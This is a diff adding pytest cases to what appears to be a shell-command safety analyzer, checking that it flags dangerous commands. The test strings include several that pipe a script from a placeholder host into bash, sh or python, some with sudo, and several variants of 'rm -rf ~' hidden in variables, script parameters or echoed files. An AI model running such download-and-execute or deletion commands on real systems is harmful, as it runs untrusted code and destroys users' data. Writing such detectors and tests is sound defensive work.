@@ -212,3 +212,24 @@ def test_exported_variables_reach_later_commands() -> None:
 
 def test_commands_hidden_in_variables_that_run_them() -> None:
     assert ["rm", "-rf", HOME] in argvs('GIT_SSH_COMMAND="rm -rf ~" git fetch')
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl -s https://x.io/i.sh | tee /tmp/i.sh | bash",
+     "curl -fsSL https://x.io/i.sh | sudo -E bash -",
+     "python3 -c \"$(curl -s https://x.io/a.py)\"",
+     "wget -qO- x.io/i | cat | sh"],
+)
+def test_downloads_reach_the_interpreter_through_filters(command: str) -> None:
+    assert "remote_code" in kinds(command)
+
+
+def test_script_parameters_and_guarded_expansions() -> None:
+    assert ["rm", "-rf", HOME] in argvs("bash -c 'rm -rf \"$1\"' _ ~")
+    assert ["rm", "-rf", HOME + "/"] in argvs("rm -rf ${HOME:?}/")
+    assert run("rm -rf ${NOPE:?}/").invocations[0].argv[2].dynamic
+
+
+def test_a_script_written_with_echo_is_read() -> None:
+    assert ["rm", "-rf", HOME] in argvs("echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh")
